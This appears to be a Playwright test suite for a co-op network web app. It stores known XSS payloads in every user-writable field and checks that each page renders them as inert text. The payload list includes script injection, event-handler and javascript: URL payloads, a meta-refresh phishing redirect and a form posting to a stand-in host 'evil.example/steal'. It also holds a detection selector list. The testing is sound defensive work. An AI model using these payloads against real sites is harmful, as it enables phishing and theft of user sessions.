/**
 * Text is always text. Known HTML-injection payloads are stored, through the
 * API, in every text field a co-op admin, a worker, a cashier and a
 * coordinator can write; then every page that shows them is visited (map
 * markers hovered and their popups opened). No dialog may open, the page may
 * not navigate away, nothing may be fetched from the attacker's host, and no
 * element may be made from a payload.
 *
 * What the demo data had before (names, the network, display names) is put
 * back at the end, and what was made is ended, withdrawn or deleted, so the
 * journeys that run after this one see the demo network as it was.
 */
import {
  type APIRequestContext,
  type Browser,
  type BrowserContext,
  expect,
  type Page,
  request,
  test,
} from '@playwright/test';
import { apiSession, DEMO, expectAccessible, uniqueId } from './support.ts';

const EVIL = 'evil.example';
const META_REFRESH = `<meta http-equiv=refresh content="0;url=https://${EVIL}/phish">`;

/** Payloads that have made elements, scripts or navigations out of text somewhere. */
const PAYLOADS = [
  META_REFRESH,
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  `<iframe src=https://${EVIL}/frame></iframe>`,
  '<input autofocus onfocus=alert(1)>',
  'javascript:alert(1)',
  '<a href=javascript:alert(1)>click me</a>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  `<script src=https://${EVIL}/x.js></script>`,
  '{{7*7}}',
  '${7*7}',
  '[x](javascript:alert(1))',
  `![x](https://${EVIL}/x.png)`,
  '<details open ontoggle=alert(1)>',
  `<base href=https://${EVIL}/>`,
  `<link rel=stylesheet href=https://${EVIL}/x.css>`,
  '<style>body{display:none}</style>',
  `<form action=https://${EVIL}/steal><button>Go</button></form>`,
  '<body onload=alert(1)>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<x onclick=alert(1)>click',
  '<!--<img src=x onerror=alert(1)>-->',
  '&lt;img src=x onerror=alert(1)&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<frameset onload=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<isindex action=javascript:alert(1) type=image>',
  `=HYPERLINK("https://${EVIL}","x")`,
];

/** The i-th payload, cut to a field's length (the cut ones still open a tag). */
const one = (i: number, max = 120) => PAYLOADS[i % PAYLOADS.length]!.slice(0, max);
/** Every payload, one a line, within `max` characters. */
function all(max: number): string {
  let out = '';
  for (const p of PAYLOADS) {
    if (out.length + p.length + 1 > max) break;
    out += `${p}\n`;
  }
  return out.trim();
}

/** Elements a payload would have made; the app itself makes none of them. */
const MADE_FROM_PAYLOAD = [
  'meta[http-equiv]',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'base',
  'isindex',
  'marquee',
  'mglyph',
  'x',
  'img[src="x"]',
  'audio[src="x"]',
  `link[href*="${EVIL}"]`,
  `form[action*="${EVIL}"]`,
  `script[src*="${EVIL}"]`,
  'input[autofocus]',
  'select[autofocus]',
  'textarea[autofocus]',
  'details[open]',
  '[href^="javascript:" i]',
  '[src^="javascript:" i]',
  '[data^="javascript:" i]',
  '[href^="data:text/html" i]',
].join(', ');

/** What a page must not have, as found in the live DOM: element descriptions. */
async function injected(page: Page): Promise<string[]> {
  return page.evaluate((selector) => {
    const found: string[] = [];
    const describe = (el: Element) => el.outerHTML.slice(0, 120);
    for (const el of Array.from(document.querySelectorAll(selector))) found.push(describe(el));
    for (const el of Array.from(document.querySelectorAll('*'))) {
      if (Array.from(el.attributes).some((a) => a.name.toLowerCase().startsWith('on'))) found.push(describe(el));
    }
    // The app's own scripts come from its own origin; none is written inline.
    for (const el of Array.from(document.querySelectorAll('script'))) {
      const src = el.getAttribute('src');
      if (src === null || new URL(src, location.href).origin !== location.origin) found.push(describe(el));
    }
    for (const el of Array.from(document.querySelectorAll('style'))) {
      const text = el.textContent ?? '';
      if (text.includes('alert(1)') || text.includes('body{display:none}')) found.push(describe(el));
    }
    return [...new Set(found)];
  }, MADE_FROM_PAYLOAD);
}

/** A browser context that watches for dialogs, foreign navigations and requests to the attacker's host. */
async function watchedContext(
  browser: Browser,
  baseURL: string,
  storageState?: Awaited<ReturnType<APIRequestContext['storageState']>>,
) {
  const context = await browser.newContext({ baseURL, storageState });
  const trouble: string[] = [];
  const origin = new URL(baseURL).origin;
  await context.route(
    (url) => url.hostname !== 'localhost' && url.hostname !== '127.0.0.1',
    (route) => {
      if (route.request().url().includes(EVIL)) trouble.push(`request to ${route.request().url()}`);
      return route.abort('blockedbyclient');
    },
  );
  // Map tiles never load here: the page must not mind.
  await context.route(
    (url) => /\/\d+\/\d+\/\d+\.png$/.test(url.pathname),
    (route) => route.abort('internetdisconnected'),
  );
  context.on('page', (page) => watch(page, origin, trouble));
  return { context, trouble };
}

function watch(page: Page, origin: string, trouble: string[]): void {
  page.on('dialog', (d) => {
    trouble.push(`dialog ${d.type()}: ${d.message()}`);
    void d.dismiss();
  });
  page.on('framenavigated', (frame) => {
    if (frame === page.mainFrame() && !frame.url().startsWith(origin)) trouble.push(`navigated to ${frame.url()}`);
  });
}

/**
 * Opens a page, waits for its heading and its data, and checks it. After the
 * first, pages are opened inside the app, as its links do: a reload per page
 * would mostly measure the app's start.
 */
async function visit(page: Page, path: string, trouble: string[], shows?: string): Promise<void> {
  const heading = page.getByRole('heading', { level: 1 }).first();
  if (page.url() === 'about:blank') await page.goto(path);
  else {
    // Every page in the lists below has a heading of its own, unlike the one before it.
    const before = await heading.textContent();
    await page.evaluate((to) => {
      window.history.pushState(null, '', to);
      window.dispatchEvent(new PopStateEvent('popstate'));
    }, path);
    await expect(heading).not.toHaveText(before ?? '', { timeout: 20_000 });
  }
  await expect(page.getByText('Loading…')).toHaveCount(0, { timeout: 20_000 });
  await expect(heading).toBeVisible({ timeout: 20_000 });
  if (shows) await expect(page.getByText(shows, { exact: false }).first()).toBeVisible({ timeout: 20_000 });
  await page.waitForLoadState('networkidle');
  expect(new URL(page.url()).pathname, `still on ${path}`).toBe(new URL(path, 'http://x').pathname);
  expect(await injected(page), `elements made from payloads on ${path}`).toEqual([]);
  expect(trouble, `after ${path}`).toEqual([]);
}

/** Hovers every marker of the map and opens its popup. */
async function everyMarker(page: Page, trouble: string[]): Promise<number> {
  const map = page.getByRole('region', { name: 'Map of member co-ops' });
  const markers = map.locator('path.leaflet-interactive');
  await expect(markers.first()).toBeVisible({ timeout: 20_000 });
  const n = await markers.count();
  // Events rather than the pointer: an open popup pans the map, and a moving marker is a slow target.
  for (let i = 0; i < n; i++) {
    try {
      await markers.nth(i).dispatchEvent('mouseover', undefined, { timeout: 5000 });
      await markers.nth(i).dispatchEvent('click', undefined, { timeout: 5000 });
    } catch (e) {
      // Gone with the page: the navigation is what is reported.
      if (trouble.length === 0) throw e;
    }
    if (trouble.length > 0) break;
  }
  // A refresh of 0 seconds would have gone by now.
  await page.waitForTimeout(1000);
  expect(trouble, 'after hovering the markers and opening their popups').toEqual([]);
  await expect(map.locator('.leaflet-tooltip')).not.toHaveCount(0);
  await expect(map.locator('.leaflet-popup-content')).toHaveCount(1);
  return n;
}

interface Session {
  api: APIRequestContext;
  csrf: string;
}

async function call(
  s: Session,
  method: 'post' | 'patch' | 'delete',
  path: string,
  data?: unknown,
  status = [200, 201, 204],
) {
  const res = await s.api[method](`/api/v1${path}`, { data: data ?? {}, headers: { 'X-CSRF-Token': s.csrf } });
  expect(status, `${method.toUpperCase()} ${path}: ${res.status()} ${await res.text()}`).toContain(res.status());
  return res.status() === 204 ? null : ((await res.json()) as Record<string, unknown>);
}

async function get<T>(s: Session, path: string): Promise<T> {
  const res = await s.api.get(`/api/v1${path}`);
  expect(res.ok(), `GET ${path}`).toBe(true);
  return (await res.json()) as T;
}

/** Puts things back; a failure here is reported, but never hides the test's own. */
async function tidy(steps: (() => Promise<unknown>)[]): Promise<void> {
  const failed: string[] = [];
  for (const step of steps) await step().catch((e: unknown) => failed.push(String(e)));
  if (failed.length > 0) console.warn(`putting the demo data back failed:\n${failed.join('\n')}`);
}

interface CoopRow {
  id: string;
  slug: string;
  name: string;
  legalForm: string;
  address: string;
  city: string;
  description: string;
}

const FORN_SLUG = 'forn-de-la-placa';
const profileOf = (c: CoopRow) => ({
  name: c.name,
  legalForm: c.legalForm,
  address: c.address,
  city: c.city,
  description: c.description,
});

test.describe('finding 1: stored HTML is shown as text', () => {
  test('finding 1: a co-op named with a meta refresh shows its name as text on the map, in its tooltip and popup', async ({
    browser,
    baseURL,
  }) => {
    const admin = await apiSession(baseURL!, DEMO.coopAdmin.email);
    const forn = await get<CoopRow>(admin, `/coops/${FORN_SLUG}`);
    const { context, trouble } = await watchedContext(browser, baseURL!);
    try {
      await call(admin, 'patch', `/coops/${forn.id}`, { name: META_REFRESH });
      const page = await context.newPage();
      await page.goto('/directory?q=phish');
      const list = page.getByRole('region', { name: 'Member co-ops' });
      await expect(list.getByText('1 co-op found')).toBeVisible();
      const map = page.getByRole('region', { name: 'Map of member co-ops' });
      const marker = map.locator('path.leaflet-interactive');
      await expect(marker).toHaveCount(1);

      await marker.hover({ force: true });
      await page.waitForTimeout(1000);
      expect(trouble, 'after hovering the marker').toEqual([]);
      const tooltip = map.locator('.leaflet-tooltip');
      await expect(tooltip).toHaveText(META_REFRESH);
      await marker.click({ force: true });
      const popup = map.locator('.leaflet-popup-content');
      await expect(popup.getByRole('link', { name: META_REFRESH })).toBeVisible();
      await page.waitForTimeout(1000);
      expect(new URL(page.url()).pathname).toBe('/directory');
      expect(await page.locator('meta[http-equiv], img[src="x"], iframe').count()).toBe(0);
      expect(await injected(page)).toEqual([]);
      expect(trouble).toEqual([]);
      await page.screenshot({ path: test.info().outputPath('xss-directory-finding1.png') });
    } finally {
      await tidy([() => call(admin, 'patch', `/coops/${forn.id}`, profileOf(forn)), () => context.close()]);
      await admin.api.dispose();
    }
  });

  test('finding 1: payloads stored in every text field stay text on every page that shows them', async ({
    browser,
    baseURL,
  }) => {
    test.setTimeout(110_000);
    const id = uniqueId();
    const admin = await apiSession(baseURL!, DEMO.coopAdmin.email);
    const worker = await apiSession(baseURL!, DEMO.worker.email);
    const coordinator = await apiSession(baseURL!, DEMO.coordinator.email);
    const visitor = { api: await request.newContext({ baseURL }), csrf: '' };

    // What is put back at the end.
    const forn = await get<CoopRow>(admin, `/coops/${FORN_SLUG}`);
    const network = await get<{ name: string; description: string | null }>(visitor, '/network');
    const names = new Map<Session, string>();
    for (const s of [admin, worker, coordinator]) {
      const { person } = await get<{ person: { displayName: string } }>(s, '/me');
      expect(person.displayName).toEqual(expect.any(String));
      names.set(s, person.displayName);
    }
    const offers: string[] = [];
    const proposals: string[] = [];
    const tokens: string[] = [];
    const contexts: BrowserContext[] = [];

    const sectors: string[] = [];

    try {
      // Coordinator: sectors named with the payloads, for the offers and applications below to choose.
      for (let i = 0; i < 6; i++) {
        const code = `html-${id}-${i}`;
        await call(coordinator, 'post', '/sectors', { code, names: { en: one(i + 12, 60), es: one(i + 18, 60) } });
        sectors.push(code);
      }

      // Co-op admin: the co-op's profile, offers, an invitation, an API token, a flagged sale's note.
      await call(admin, 'patch', `/coops/${forn.id}`, {
        name: META_REFRESH,
        legalForm: one(1, 60),
        address: one(2, 200),
        city: one(3, 80),
        description: all(4000),
      });
      for (let i = 0; i < 6; i++) {
        const offer = await call(admin, 'post', `/coops/${forn.id}/offers`, {
          title: one(i),
          terms: all(2000),
          kind: 'free_item',
          item: one(i + 6),
          amountCents: 300,
          // The first is open to every sector: the till's sales below use it.
          sectors: i === 0 ? [] : [sectors[i]!, sectors[(i + 3) % 6]!],
          limitPeriod: 'day',
          limitCount: 1,
        });
        offers.push(offer!.id as string);
      }
      await call(admin, 'post', `/coops/${forn.id}/invitations`, {
        email: `html.${id}@injection.example`,
        displayName: one(4),
        role: 'worker',
      });
      const token = await call(admin, 'post', '/auth/tokens', { name: one(5, 80), scopes: ['read'] });
      tokens.push(token!.id as string);

      // Profiles.
      await call(admin, 'patch', '/me', { displayName: one(1) });
      await call(worker, 'patch', '/me', { displayName: one(2) });
      await call(coordinator, 'patch', '/me', { displayName: one(5) });

      // Coordinator: the network, a committee, assemblies (one past, with minutes), an application rejected.
      await call(coordinator, 'patch', '/network', { name: one(0), description: all(2000) });
      const body = await call(coordinator, 'post', '/bodies', {
        kind: 'committee',
        name: one(7),
        description: all(2000),
      });
      const hour = 3600_000;
      const upcoming = await call(coordinator, 'post', '/assemblies', {
        bodyId: body!.id,
        title: one(8, 200),
        startsAt: new Date(Date.now() + 48 * hour).toISOString(),
        endsAt: new Date(Date.now() + 50 * hour).toISOString(),
        place: one(9, 300),
      });
      const past = await call(coordinator, 'post', '/assemblies', {
        bodyId: body!.id,
        title: one(10, 200),
        startsAt: new Date(Date.now() + 24 * hour).toISOString(),
        endsAt: new Date(Date.now() + 26 * hour).toISOString(),
        place: one(11, 300),
      });
      await call(coordinator, 'patch', `/assemblies/${past!.id}`, {
        startsAt: new Date(Date.now() - 26 * hour).toISOString(),
        endsAt: new Date(Date.now() - 24 * hour).toISOString(),
        minutes: all(100_000),
      });
      expect(upcoming!.id).toBeTruthy();
      for (const [i, keep] of [
        [12, true],
        [13, false],
      ] as const) {
        const application = await call(visitor, 'post', '/applications', {
          coop: {
            name: `${one(i, 100)} ${id}`,
            legalForm: one(i + 1, 60),
            sector: sectors[i % 6]!,
            address: one(i + 3, 200),
            city: one(i + 4, 80),
            description: all(4000),
            workerCount: 3,
          },
          contactName: one(i + 5),
          contactEmail: `applicant.${i}.${id}@injection.example`,
          message: all(4000),
        });
        if (!keep)
          await call(coordinator, 'post', `/applications/${application!.id as string}/reject`, { reason: all(1000) });
      }

      // Worker: proposals (a title each), moved to discussion, with comments and an amendment.
      for (let i = 0; i < 4; i++) {
        const p = await call(worker, 'post', '/proposals', {
          matter: 'free',
          title: `${one(i * 5, 190)} ${i}`,
          text: all(20_000),
        });
        proposals.push(p!.id as string);
        await call(worker, 'post', `/proposals/${p!.id as string}/discussion`);
      }
      const talk = proposals[0]!;
      const comment = await call(worker, 'post', `/proposals/${talk}/comments`, { text: all(5000) });
      await call(coordinator, 'post', `/proposals/${talk}/comments`, { text: one(15, 5000), parentId: comment!.id });
      await call(worker, 'post', `/proposals/${talk}/amendments`, { text: all(20_000) });

      // Cashier (Forn's admin keeps its till): two sales over a once-a-day limit, the second flagged, resolved with a note.
      const card = await get<{ token: string }>(worker, '/me/card');
      const at = new Date().toISOString();
      const synced = await call(admin, 'post', `/till/${forn.id}/redemptions/sync`, {
        items: [0, 1].map((i) => ({
          key: `html-${id}-${i}`,
          offerId: offers[0],
          card: card.token,
          saleCents: 1500,
          redeemedAt: at,
        })),
      });
      const flagged = await get<{ items: { id: string; offerId?: string }[] }>(
        admin,
        `/coops/${forn.id}/redemptions?flagged=true`,
      );
      expect(flagged.items.length, JSON.stringify(synced)).toBeGreaterThan(0);

      // The pages, as each of them sees them, side by side.
      const as = async (s?: Session) => {
        const watched = await watchedContext(browser, baseURL!, s ? await s.api.storageState() : undefined);
        contexts.push(watched.context);
        const page = await watched.context.newPage();
        return { page, trouble: watched.trouble };
      };
      let resolved: () => void = () => undefined;
      const noteWritten = new Promise<void>((resolve) => (resolved = resolve));

      const asVisitor = async () => {
        const { page, trouble } = await as();
        await visit(page, '/', trouble);
        await visit(page, '/directory', trouble);
        expect(await everyMarker(page, trouble)).toBeGreaterThan(1);
        expect(await injected(page), 'after the map').toEqual([]);
        expect(trouble, 'after the map').toEqual([]);
        await expectAccessible(page);
        await visit(page, `/coops/${FORN_SLUG}`, trouble, META_REFRESH);
        await visit(page, '/offers', trouble);
        await visit(page, '/governance', trouble, one(8, 200));
        await visit(page, `/proposals/${talk}`, trouble);
      };

      const asAdmin = async () => {
        const { page, trouble } = await as(admin);
        // The flagged sale is still waiting on the offers page.
        await visit(page, `/coops/${forn.id}/offers`, trouble);
        for (const r of flagged.items)
          await call(admin, 'post', `/coops/${forn.id}/redemptions/${r.id}/resolve`, {
            decision: 'accept',
            note: all(500),
          });
        resolved();
        for (const path of [
          '/dashboard',
          '/account',
          '/card',
          `/coops/${forn.id}/workers`,
          `/till/${forn.id}`,
          '/reciprocity',
          '/notifications',
        ]) {
          await visit(page, path, trouble);
        }
        await expectAccessible(page);
      };

      const asWorker = async () => {
        const { page, trouble } = await as(worker);
        for (const path of ['/dashboard', '/card', `/proposals/${talk}`, `/proposals/${proposals[1]}`])
          await visit(page, path, trouble);
      };

      const asCoordinator = async () => {
        const { page, trouble } = await as(coordinator);
        for (const path of [
          '/dashboard',
          '/admin/applications',
          '/admin/outbox',
          '/admin/network',
          '/governance',
          '/proposals',
          `/proposals/${talk}`,
        ]) {
          await visit(page, path, trouble);
        }
        await noteWritten;
        await visit(page, '/admin/audit', trouble);
      };

      await Promise.all([asVisitor(), asAdmin(), asWorker(), asCoordinator()]);
    } finally {
      await tidy([
        ...contexts.map((c) => () => c.close()),
        ...offers.map((o) => () => call(admin, 'post', `/offers/${o}/end`, undefined, [200, 409])),
        ...proposals.map((p) => () => call(worker, 'post', `/proposals/${p}/withdraw`, undefined, [200, 409])),
        ...tokens.map((t) => () => call(admin, 'delete', `/auth/tokens/${t}`, undefined, [200, 204, 404])),
        () => call(admin, 'patch', `/coops/${forn.id}`, profileOf(forn)),
        () => call(coordinator, 'patch', '/network', { name: network.name, description: network.description }),
        // A sector stays once made: its names become plain ones, for the journeys after this one.
        ...sectors.map((code, i) => () => call(coordinator, 'patch', `/sectors/${code}`, { names: { en: `Test sector ${i}`, es: `Sector de prueba ${i}` } })),
        ...[...names].map(
          ([s, name]) =>
            () =>
              call(s, 'patch', '/me', { displayName: name }),
        ),
      ]);
      // Put back as it was: the journeys after this one read these names.
      for (const [s, name] of names)
        expect.soft((await get<{ person: { displayName: string } }>(s, '/me')).person.displayName).toBe(name);
      expect.soft((await get<CoopRow>(visitor, `/coops/${FORN_SLUG}`)).name).toBe(forn.name);
      expect.soft((await get<{ name: string }>(visitor, '/network')).name).toBe(network.name);
      for (const s of [admin, worker, coordinator, visitor]) await s.api.dispose();
    }
  });
  test('finding 1: payloads in the fund’s text fields (an application, a gift, a movement’s reason) stay text', async ({
    browser,
    baseURL,
  }) => {
    test.setTimeout(90_000);
    const admin = await apiSession(baseURL!, DEMO.coopAdmin.email);
    const treasurer = await apiSession(baseURL!, 'noelia.saez@ecomercat-de-benimaclet.example');
    const forn = await get<CoopRow>(admin, `/coops/${FORN_SLUG}`);
    const keyed = async (s: Session, path: string, data: unknown) => {
      const res = await s.api.post(`/api/v1${path}`, {
        data,
        headers: { 'X-CSRF-Token': s.csrf, 'Idempotency-Key': `html-${uniqueId()}` },
      });
      expect(res.status(), `POST ${path}: ${await res.text()}`).toBe(201);
      return (await res.json()) as { id: string };
    };
    const today = new Date().toISOString().slice(0, 10);
    const contexts: BrowserContext[] = [];
    try {
      // A co-op admin applies for a loan, every text field a payload.
      const application = await call(admin, 'post', '/fund/applications', {
        coopId: forn.id,
        kind: 'loan',
        amountCents: 10_000,
        purpose: one(0, 1000),
        plan: all(4000),
        repayment: all(2000),
        loan: { termMonths: 3 },
      });
      // A treasurer records a gift from a named giver who agreed to be named, and a gift as a movement with a payload for its reason.
      await keyed(treasurer, '/fund/gifts', {
        giverKind: 'named',
        giverName: one(1, 200),
        namePublic: true,
        cents: 1_00,
        date: today,
        subFund: 'programmes',
        note: one(2, 500),
      });
      await keyed(treasurer, '/fund/movements', {
        kind: 'gift',
        date: today,
        reason: one(3, 500),
        decision: null,
        lines: [
          { account: 'assets:bank', subFund: null, coopId: null, cents: 1_00 },
          { account: 'income:gifts', subFund: 'emergency', coopId: null, cents: -1_00 },
        ],
      });

      const as = async (s?: Session) => {
        const watched = await watchedContext(browser, baseURL!, s ? await s.api.storageState() : undefined);
        contexts.push(watched.context);
        return { page: await watched.context.newPage(), trouble: watched.trouble };
      };
      const visitor = await as();
      await visit(visitor.page, '/fund', visitor.trouble, one(1, 200));
      const applicant = await as(admin);
      await visit(applicant.page, `/fund/applications/${application!.id as string}`, applicant.trouble, one(0, 1000));
      await visit(applicant.page, '/fund/applications', applicant.trouble);
      const books = await as(treasurer);
      await visit(books.page, '/fund', books.trouble, one(3, 500));
      await visit(books.page, '/fund/contributions', books.trouble);
      await visit(books.page, `/fund/applications/${application!.id as string}`, books.trouble, one(0, 1000));
      await expectAccessible(books.page);
    } finally {
      await tidy(contexts.map((c) => () => c.close()));
      await admin.api.dispose();
      await treasurer.api.dispose();
    }
  });
});
